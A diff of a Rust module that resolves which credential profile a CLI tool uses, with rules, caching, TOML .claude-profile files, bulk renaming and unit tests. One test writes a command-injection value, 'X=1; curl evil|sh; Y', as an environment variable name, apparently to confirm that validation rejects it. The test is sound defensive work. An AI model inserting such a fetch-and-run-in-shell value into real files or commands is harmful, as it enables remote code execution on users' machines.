@@ -1,62 +1,369 @@
+use crate::core::rules::{self, Matched};
 use crate::core::{cache, config};
 use crate::error::{Error, Result};
+use crate::types::{Config, ProjectProfile, Rule};
+use crate::utils::validate_env_name;
+use chrono::Utc;
+use serde::Serialize;
 use std::env;
 use std::fs;
 use std::path::{Path, PathBuf};
+use toml_edit::DocumentMut;
+use walkdir::{DirEntry, WalkDir};
+
+/// Pins the profile for every command, below only `--profile`
+pub const PROFILE_ENV: &str = "CLAUDE_VAULT_PROFILE";
 
 const PROFILE_FILE_NAME: &str = ".claude-profile";
 
-/// Detect profile for current directory
-pub fn detect_profile() -> Result<String> {
+/// Directories never searched for `.claude-profile` files
+const SKIPPED_DIRS: &[&str] = &[".git", "node_modules", "target"];
+
+/// How a profile was detected
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+#[serde(tag = "kind", rename_all = "kebab-case")]
+pub enum DetectionSource {
+    /// Given with `--profile`
+    Flag,
+    /// Pinned by CLAUDE_VAULT_PROFILE
+    Env,
+    /// A path rule in config.toml matching the directory
+    Rule { pattern: String },
+    /// A remote rule in config.toml matching a remote of the repository
+    RemoteRule { pattern: String, remote: String },
+    /// An earlier detection cached for the directory
+    Cache,
+    /// A `.claude-profile` file in the directory or one of its parents
+    ProfileFile { path: PathBuf },
+    /// The configured default profile
+    Default,
+}
+
+/// Detected profile and where it came from
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct Detection {
+    pub profile: String,
+    pub source: DetectionSource,
+    /// Project settings of the `.claude-profile` the profile was selected by
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub project: Option<ProjectProfile>,
+}
+
+/// One step taken while resolving a profile, in order
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+#[serde(tag = "step", rename_all = "kebab-case")]
+pub enum TraceStep {
+    /// A profile was given with `--profile`, so nothing else was checked
+    Flag { profile: String },
+    /// The environment variable pinning a profile was checked
+    Env {
+        variable: &'static str,
+        #[serde(skip_serializing_if = "Option::is_none")]
+        profile: Option<String>,
+    },
+    /// Rules in config.toml were checked
+    Rules {
+        checked: usize,
+        #[serde(skip_serializing_if = "Option::is_none")]
+        matched: Option<Rule>,
+        /// What the matched rule's pattern matched
+        #[serde(skip_serializing_if = "Option::is_none")]
+        on: Option<Matched>,
+    },
+    /// The cache of earlier `.claude-profile` lookups was consulted
+    Cache {
+        #[serde(flatten)]
+        lookup: CacheLookup,
+    },
+    /// A directory was searched for a `.claude-profile`
+    Directory { path: PathBuf, found: bool },
+    /// The configured default profile was used as the fallback
+    Default {
+        #[serde(skip_serializing_if = "Option::is_none")]
+        profile: Option<String>,
+    },
+}
+
+/// Outcome of a cache lookup
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+#[serde(tag = "result", rename_all = "kebab-case")]
+pub enum CacheLookup {
+    Miss,
+    Hit {
+        profile: String,
+        age_seconds: i64,
+    },
+    /// An entry that no longer holds and was ignored
+    Stale {
+        profile: String,
+        age_seconds: i64,
+        reason: String,
+    },
+}
+
+/// Profiles pinned ahead of detection
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Overrides {
+    /// From `--profile`
+    pub flag: Option<String>,
+    /// From CLAUDE_VAULT_PROFILE (ignored when empty)
+    pub env: Option<String>,
+}
+
+impl Overrides {
+    /// Overrides from the `--profile` flag and the environment
+    pub fn new(flag: Option<&str>) -> Self {
+        Overrides {
+            flag: flag.map(str::to_string),
+            env: env::var(PROFILE_ENV)
+                .ok()
+                .filter(|profile| !profile.is_empty()),
+        }
+    }
+
+    /// Pinned profile, the flag winning over the environment
+    pub fn pinned(&self) -> Option<&str> {
+        self.flag.as_deref().or(self.env.as_deref())
+    }
+}
+
+/// Profile pinned by `--profile` or CLAUDE_VAULT_PROFILE, for commands that
+/// act on a named profile instead of detecting one
+pub fn pinned(flag: Option<&str>) -> Option<String> {
+    Overrides::new(flag).pinned().map(str::to_string)
+}
+
+/// Pinned profile, or `default` when nothing is pinned
+pub fn pinned_or(flag: Option<&str>, default: &str) -> String {
+    pinned(flag).unwrap_or_else(|| default.to_string())
+}
+
+/// Resolve the profile for the current directory: `--profile`, then
+/// CLAUDE_VAULT_PROFILE, then detection; reports where it came from
+pub fn detect(flag: Option<&str>) -> Result<Detection> {
     let current_dir = env::current_dir()?;
-    detect_profile_for_dir(&current_dir)
+    detect_for_dir(&current_dir, flag)
 }
 
-/// Detect profile for a specific directory
-pub fn detect_profile_for_dir(start_dir: &Path) -> Result<String> {
+/// Resolve the profile for a specific directory
+pub fn detect_for_dir(start_dir: &Path, flag: Option<&str>) -> Result<Detection> {
     let config = config::load()?;
+    resolve(&config, &Overrides::new(flag), start_dir, &mut Vec::new())
+}
 
-    // Check cache first
-    if let Some(cached_profile) = cache::get(start_dir)? {
-        // Verify profile still exists
-        if config.profile_exists(&cached_profile) {
-            return Ok(cached_profile);
+/// Resolve the profile for a directory, recording each step taken; the steps
+/// are kept when resolution fails
+pub fn explain_for_dir(
+    start_dir: &Path,
+    flag: Option<&str>,
+) -> Result<(Vec<TraceStep>, Result<Detection>)> {
+    let config = config::load()?;
+    let mut trace = Vec::new();
+    let detection = resolve(&config, &Overrides::new(flag), start_dir, &mut trace);
+    Ok((trace, detection))
+}
+
+fn resolve(
+    config: &Config,
+    overrides: &Overrides,
+    start_dir: &Path,
+    trace: &mut Vec<TraceStep>,
+) -> Result<Detection> {
+    // A pinned profile skips detection, and with it any project settings
+    let pinned = |profile: &str, source| {
+        if !config.profile_exists(profile) {
+            return Err(Error::ProfileNotFound(profile.to_string()));
         }
+        Ok(Detection {
+            profile: profile.to_string(),
+            source,
+            project: None,
+        })
+    };
+    if let Some(ref profile) = overrides.flag {
+        trace.push(TraceStep::Flag {
+            profile: profile.clone(),
+        });
+        return pinned(profile, DetectionSource::Flag);
+    }
+    trace.push(TraceStep::Env {
+        variable: PROFILE_ENV,
+        profile: overrides.env.clone(),
+    });
+    if let Some(ref profile) = overrides.env {
+        return pinned(profile, DetectionSource::Env);
     }
 
-    // Traverse up directory tree
-    let mut current = start_dir;
-    loop {
-        let profile_file = current.join(PROFILE_FILE_NAME);
-
-        if profile_file.exists() {
-            let profile_name = fs::read_to_string(&profile_file)?
-                .trim()
-                .to_string();
-
-            // Validate profile exists in config
-            if config.profile_exists(&profile_name) {
-                // Update cache
-                cache::set(start_dir, &profile_name)?;
-                return Ok(profile_name);
-            } else {
-                return Err(Error::InvalidProfileReference(profile_name));
-            }
+    // Rules take precedence over `.claude-profile` files
+    let found = rules::find_match(&config.rules, start_dir);
+    trace.push(TraceStep::Rules {
+        checked: config.rules.len(),
+        matched: found.as_ref().map(|found| found.rule.clone()),
+        on: found.as_ref().map(|found| found.matched.clone()),
+    });
+    if let Some(found) = found {
+        if !config.profile_exists(&found.rule.profile) {
+            return Err(Error::InvalidProfileReference(found.rule.profile.clone()));
         }
+        let pattern = found.rule.target.pattern().to_string();
+        let source = match found.matched {
+            Matched::Directory { .. } => DetectionSource::Rule { pattern },
+            Matched::Remote { url, .. } => DetectionSource::RemoteRule {
+                pattern,
+                remote: url,
+            },
+        };
+        return Ok(Detection {
+            profile: found.rule.profile.clone(),
+            source,
+            project: None,
+        });
+    }
 
-        // Move up one directory
-        match current.parent() {
-            Some(parent) => current = parent,
-            None => break, // Reached root
+    // Then the cache of earlier `.claude-profile` lookups
+    let (lookup, detection) = check_cache(config, start_dir)?;
+    trace.push(TraceStep::Cache { lookup });
+    if let Some(detection) = detection {
+        return Ok(detection);
+    }
+
+    // Traverse up directory tree
+    for dir in start_dir.ancestors() {
+        let profile_file = dir.join(PROFILE_FILE_NAME);
+        let found = profile_file.exists();
+        trace.push(TraceStep::Directory {
+            path: dir.to_path_buf(),
+            found,
+        });
+
+        if found {
+            let project = read_profile_file(&profile_file)?;
+            let profile_name = select_profile(config, &project)?;
+
+            // Update cache
+            cache::set(start_dir, &profile_name, Some(&profile_file))?;
+            return Ok(Detection {
+                profile: profile_name,
+                source: DetectionSource::ProfileFile { path: profile_file },
+                project: Some(project),
+            });
         }
     }
 
     // Fall back to default profile
+    trace.push(TraceStep::Default {
+        profile: config.default_profile.clone(),
+    });
     config
         .default_profile
+        .clone()
+        .map(|profile| Detection {
+            profile,
+            source: DetectionSource::Default,
+            project: None,
+        })
         .ok_or(Error::NoProfileDetected)
 }
 
+/// Look up `dir` in the cache, returning the detection if the entry still holds
+fn check_cache(config: &Config, dir: &Path) -> Result<(CacheLookup, Option<Detection>)> {
+    let Some(cached) = cache::get(dir)? else {
+        return Ok((CacheLookup::Miss, None));
+    };
+    let age_seconds = (Utc::now() - cached.cached_at).num_seconds();
+
+    let stale = |reason: String| CacheLookup::Stale {
+        profile: cached.profile.clone(),
+        age_seconds,
+        reason,
+    };
+    if !config.profile_exists(&cached.profile) {
+        return Ok((stale("profile no longer exists".to_string()), None));
+    }
+
+    // Project settings are not cached; a file that no longer selects the
+    // cached profile invalidates the entry
+    let project = match cached.profile_file {
+        Some(ref path) => {
+            let project = read_profile_file(path).ok().filter(|project| {
+                select_profile(config, project).ok().as_ref() == Some(&cached.profile)
+            });
+            if project.is_none() {
+                let reason = format!("{} no longer selects it", path.display());
+                return Ok((stale(reason), None));
+            }
+            project
+        }
+        None => None,
+    };
+
+    let lookup = CacheLookup::Hit {
+        profile: cached.profile.clone(),
+        age_seconds,
+    };
+    let detection = Detection {
+        profile: cached.profile,
+        source: DetectionSource::Cache,
+        project,
+    };
+    Ok((lookup, Some(detection)))
+}
+
+/// Read a `.claude-profile` file
+pub fn read_profile_file(path: &Path) -> Result<ProjectProfile> {
+    let contents = fs::read_to_string(path)?;
+    let project = parse_profile_file(&contents)
+        .map_err(|e| Error::ConfigError(format!("Invalid {}: {}", path.display(), e)))?;
+
+    // Names are exported unquoted, and `env` output is meant for eval
+    for name in project.env.keys() {
+        validate_env_name(name)
+            .map_err(|e| Error::ConfigError(format!("Invalid {}: {}", path.display(), e)))?;
+    }
+
+    Ok(project)
+}
+
+/// Parse `.claude-profile` contents: a bare profile name, or TOML with a
+/// `profile` key (profile names never contain `=`, so the two can't be confused)
+fn parse_profile_file(contents: &str) -> std::result::Result<ProjectProfile, toml::de::Error> {
+    if !contents.contains('=') {
+        return Ok(ProjectProfile::new(contents.trim().to_string()));
+    }
+
+    toml::from_str(contents)
+}
+
+/// First of the project's profile and fallbacks that exists and has the
+/// required credential type
+fn select_profile(config: &Config, project: &ProjectProfile) -> Result<String> {
+    let mut mismatched = None;
+
+    for name in project.candidates() {
+        match config.find_profile(name) {
+            Some(profile)
+                if project
+                    .required_type
+                    .is_none_or(|required| profile.credential_type == required) =>
+            {
+                return Ok(name.clone());
+            }
+            Some(_) => {
+                mismatched.get_or_insert(name);
+            }
+            None => {}
+        }
+    }
+
+    match (mismatched, project.required_type) {
+        (Some(name), Some(required)) => Err(Error::ProfileTypeMismatch {
+            profile: name.clone(),
+            required,
+        }),
+        _ => Err(Error::InvalidProfileReference(project.profile.clone())),
+    }
+}
+
 /// Initialize a project with a profile
 pub fn init_profile(profile_name: &str) -> Result<PathBuf> {
     let current_dir = env::current_dir()?;
@@ -72,7 +379,7 @@ pub fn init_profile(profile_name: &str) -> Result<PathBuf> {
     fs::write(&profile_file, format!("{}\n", profile_name))?;
 
     // Update cache
-    cache::set(&current_dir, profile_name)?;
+    cache::set(&current_dir, profile_name, Some(&profile_file))?;
 
     // Add to .gitignore if in git repo
     add_to_gitignore(&current_dir)?;
@@ -80,6 +387,85 @@ pub fn init_profile(profile_name: &str) -> Result<PathBuf> {
     Ok(profile_file)
 }
 
+/// Point every `.claude-profile` under `roots` that names `old` at `new`;
+/// returns the files rewritten. Files and directories that can't be read are
+/// skipped with a warning.
+pub fn rewrite_profile_files(roots: &[PathBuf], old: &str, new: &str) -> Result<Vec<PathBuf>> {
+    let mut rewritten = Vec::new();
+
+    for root in roots {
+        let entries = WalkDir::new(root)
+            .into_iter()
+            .filter_entry(|entry| !is_skipped_dir(entry));
+
+        for entry in entries {
+            // One unreadable directory or file shouldn't stop the rest from being updated
+            let entry = match entry {
+                Ok(entry) => entry,
+                Err(e) => {
+                    eprintln!("⚠️  Warning: Skipping {}", e);
+                    continue;
+                }
+            };
+            if !entry.file_type().is_file() || entry.file_name() != PROFILE_FILE_NAME {
+                continue;
+            }
+
+            let path = entry.path();
+            let current = match fs::read_to_string(path) {
+                Ok(current) => current,
+                Err(e) => {
+                    eprintln!("⚠️  Warning: Skipping {}: {}", path.display(), e);
+                    continue;
+                }
+            };
+            if let Some(contents) = rename_in_profile_file(&current, old, new) {
+                fs::write(path, contents)?;
+                rewritten.push(path.to_path_buf());
+            }
+        }
+    }
+
+    Ok(rewritten)
+}
+
+/// `.claude-profile` contents with `old` replaced by `new` as the profile and
+/// among the fallbacks, keeping the rest of the file as it was; None if the
+/// file does not name `old` (or is not valid TOML)
+fn rename_in_profile_file(contents: &str, old: &str, new: &str) -> Option<String> {
+    if !contents.contains('=') {
+        return (contents.trim() == old).then(|| format!("{}\n", new));
+    }
+
+    let mut doc: DocumentMut = contents.parse().ok()?;
+    let mut changed = false;
+
+    if doc.get("profile").and_then(|profile| profile.as_str()) == Some(old) {
+        doc["profile"] = toml_edit::value(new);
+        changed = true;
+    }
+
+    if let Some(fallbacks) = doc
+        .get_mut("fallbacks")
+        .and_then(|item| item.as_array_mut())
+    {
+        for fallback in fallbacks.iter_mut() {
+            if fallback.as_str() == Some(old) {
+                *fallback = new.into();
+                changed = true;
+            }
+        }
+    }
+
+    changed.then(|| doc.to_string())
+}
+
+fn is_skipped_dir(entry: &DirEntry) -> bool {
+    entry.depth() > 0
+        && entry.file_type().is_dir()
+        && SKIPPED_DIRS.iter().any(|name| entry.file_name() == *name)
+}
+
 /// Add .claude-profile to .gitignore if not already present
 fn add_to_gitignore(dir: &Path) -> Result<()> {
     let gitignore_path = dir.join(".gitignore");
@@ -154,6 +540,257 @@ mod tests {
         assert!(profile_file.exists());
     }
 
+    #[test]
+    fn test_resolve_traces_rule_match() {
+        let temp_dir = tempdir().unwrap();
+        let mut config = Config::new();
+        config
+            .add_profile(Profile::new("work".to_string(), None))
+            .unwrap();
+        config.rules.push(Rule {
+            target: crate::types::RuleTarget::Path(temp_dir.path().display().to_string()),
+            profile: "work".to_string(),
+        });
+
+        let mut trace = Vec::new();
+        let dir = temp_dir.path().join("src");
+        let detection = resolve(&config, &Overrides::default(), &dir, &mut trace).unwrap();
+        assert_eq!(detection.profile, "work");
+        assert_eq!(
+            trace,
+            vec![
+                TraceStep::Env {
+                    variable: PROFILE_ENV,
+                    profile: None,
+                },
+                TraceStep::Rules {
+                    checked: 1,
+                    matched: Some(config.rules[0].clone()),
+                    on: Some(Matched::Directory {
+                        path: temp_dir.path().to_path_buf()
+                    }),
+                },
+            ]
+        );
+
+        // The trace survives a failed detection
+        config.profiles.clear();
+        let mut trace = Vec::new();
+        assert!(resolve(&config, &Overrides::default(), &dir, &mut trace).is_err());
+        assert_eq!(trace.len(), 2);
+    }
+
+    #[test]
+    fn test_resolve_overrides() {
+        let temp_dir = tempdir().unwrap();
+        let mut config = Config::new();
+        for name in ["work", "personal", "ci"] {
+            config
+                .add_profile(Profile::new(name.to_string(), None))
+                .unwrap();
+        }
+        config.default_profile = Some("personal".to_string());
+        config.rules.push(Rule {
+            target: crate::types::RuleTarget::Path(temp_dir.path().display().to_string()),
+            profile: "work".to_string(),
+        });
+        let resolve = |flag: Option<&str>, env: Option<&str>| {
+            let overrides = Overrides {
+                flag: flag.map(str::to_string),
+                env: env.map(str::to_string),
+            };
+            resolve(&config, &overrides, temp_dir.path(), &mut Vec::new())
+        };
+
+        let detection = resolve(Some("ci"), Some("personal")).unwrap();
+        assert_eq!(detection.profile, "ci");
+        assert_eq!(detection.source, DetectionSource::Flag);
+
+        let detection = resolve(None, Some("ci")).unwrap();
+        assert_eq!(detection.profile, "ci");
+        assert_eq!(detection.source, DetectionSource::Env);
+
+        assert_eq!(resolve(None, None).unwrap().profile, "work");
+
+        assert!(matches!(
+            resolve(None, Some("missing")),
+            Err(Error::ProfileNotFound(name)) if name == "missing"
+        ));
+    }
+
+    #[test]
+    fn test_trace_step_json() {
+        let step = TraceStep::Cache {
+            lookup: CacheLookup::Hit {
+                profile: "work".to_string(),
+                age_seconds: 42,
+            },
+        };
+        assert_eq!(
+            serde_json::to_value(&step).unwrap(),
+            serde_json::json!({
+                "step": "cache",
+                "result": "hit",
+                "profile": "work",
+                "age_seconds": 42,
+            })
+        );
+
+        let step = TraceStep::Cache {
+            lookup: CacheLookup::Miss,
+        };
+        assert_eq!(
+            serde_json::to_value(&step).unwrap(),
+            serde_json::json!({"step": "cache", "result": "miss"})
+        );
+    }
+
+    #[test]
+    fn test_read_profile_file_rejects_bad_env_names() {
+        let temp_dir = tempdir().unwrap();
+        let path = temp_dir.path().join(PROFILE_FILE_NAME);
+
+        fs::write(&path, "profile = \"work\"\n\n[env]\nHTTPS_PROXY = \"x\"\n").unwrap();
+        assert!(read_profile_file(&path).is_ok());
+
+        fs::write(
+            &path,
+            "profile = \"work\"\n\n[env]\n\"X=1; curl evil|sh; Y\" = \"1\"\n",
+        )
+        .unwrap();
+        assert!(matches!(
+            read_profile_file(&path),
+            Err(Error::ConfigError(message)) if message.contains("environment variable name")
+        ));
+    }
+
+    #[test]
+    fn test_rewrite_profile_files() {
+        let temp_dir = tempdir().unwrap();
+        let root = temp_dir.path();
+        for dir in ["a", "b/c", "node_modules/pkg"] {
+            fs::create_dir_all(root.join(dir)).unwrap();
+        }
+        fs::write(root.join("a").join(PROFILE_FILE_NAME), "work\n").unwrap();
+        fs::write(root.join("b/c").join(PROFILE_FILE_NAME), "personal\n").unwrap();
+        fs::write(
+            root.join("node_modules/pkg").join(PROFILE_FILE_NAME),
+            "work\n",
+        )
+        .unwrap();
+
+        let rewritten = rewrite_profile_files(&[root.to_path_buf()], "work", "acme").unwrap();
+        assert_eq!(rewritten, vec![root.join("a").join(PROFILE_FILE_NAME)]);
+
+        let read = |dir: &str| fs::read_to_string(root.join(dir).join(PROFILE_FILE_NAME)).unwrap();
+        assert_eq!(read("a"), "acme\n");
+        assert_eq!(read("b/c"), "personal\n");
+        assert_eq!(read("node_modules/pkg"), "work\n");
+    }
+
+    #[test]
+    fn test_rewrite_profile_files_skips_unreadable() {
+        let temp_dir = tempdir().unwrap();
+        let root = temp_dir.path();
+        for dir in ["a", "b"] {
+            fs::create_dir_all(root.join(dir)).unwrap();
+        }
+        fs::write(root.join("a").join(PROFILE_FILE_NAME), b"work\xff\n").unwrap();
+        fs::write(root.join("b").join(PROFILE_FILE_NAME), "work\n").unwrap();
+
+        let rewritten = rewrite_profile_files(&[root.to_path_buf()], "work", "acme").unwrap();
+        assert_eq!(rewritten, vec![root.join("b").join(PROFILE_FILE_NAME)]);
+        assert_eq!(
+            fs::read(root.join("a").join(PROFILE_FILE_NAME)).unwrap(),
+            b"work\xff\n"
+        );
+    }
+
+    #[test]
+    fn test_parse_profile_file() {
+        assert_eq!(
+            parse_profile_file("work\n").unwrap(),
+            ProjectProfile::new("work".to_string())
+        );
+
+        let project = parse_profile_file(
+            "profile = \"work\"\nfallbacks = [\"personal\"]\n\n[env]\nFOO = \"bar\"\n",
+        )
+        .unwrap();
+        assert_eq!(project.profile, "work");
+        assert_eq!(project.fallbacks, vec!["personal".to_string()]);
+        assert_eq!(project.env["FOO"], "bar");
+
+        assert!(parse_profile_file("model = \"claude\"\n").is_err());
+    }
+
+    #[test]
+    fn test_select_profile() {
+        let mut config = Config::new();
+        config
+            .add_profile(Profile::new("api".to_string(), None))
+            .unwrap();
+        config
+            .add_profile(Profile::new_with_type(
+                "sub".to_string(),
+                None,
+                crate::types::CredentialType::OAuth,
+            ))
+            .unwrap();
+
+        let project = |profile: &str, fallbacks: &[&str], required_type| ProjectProfile {
+            profile: profile.to_string(),
+            fallbacks: fallbacks.iter().map(|name| name.to_string()).collect(),
+            required_type,
+            ..ProjectProfile::default()
+        };
+        let oauth = Some(crate::types::CredentialType::OAuth);
+
+        assert_eq!(
+            select_profile(&config, &project("api", &[], None)).unwrap(),
+            "api"
+        );
+        assert_eq!(
+            select_profile(&config, &project("missing", &["api"], None)).unwrap(),
+            "api"
+        );
+        assert_eq!(
+            select_profile(&config, &project("api", &["sub"], oauth)).unwrap(),
+            "sub"
+        );
+        assert!(matches!(
+            select_profile(&config, &project("api", &["missing"], oauth)),
+            Err(Error::ProfileTypeMismatch { .. })
+        ));
+        assert!(matches!(
+            select_profile(&config, &project("missing", &[], None)),
+            Err(Error::InvalidProfileReference(_))
+        ));
+    }
+
+    #[test]
+    fn test_rename_in_profile_file() {
+        assert_eq!(
+            rename_in_profile_file("work\n", "work", "acme").as_deref(),
+            Some("acme\n")
+        );
+        assert!(rename_in_profile_file("personal\n", "work", "acme").is_none());
+
+        let contents = "# Team account\nprofile = \"work\"\nfallbacks = [\"personal\", \"work\"]\nmodel = \"work\"\n";
+        let renamed = rename_in_profile_file(contents, "work", "acme").unwrap();
+        assert!(renamed.starts_with("# Team account\n"));
+
+        let project = parse_profile_file(&renamed).unwrap();
+        assert_eq!(project.profile, "acme");
+        assert_eq!(
+            project.fallbacks,
+            vec!["personal".to_string(), "acme".to_string()]
+        );
+        assert_eq!(project.model.as_deref(), Some("work"));
+
+        assert!(rename_in_profile_file(contents, "other", "acme").is_none());
+    }
+
     #[test]
     fn test_add_to_gitignore_not_git_repo() {
         let temp_dir = tempdir().unwrap();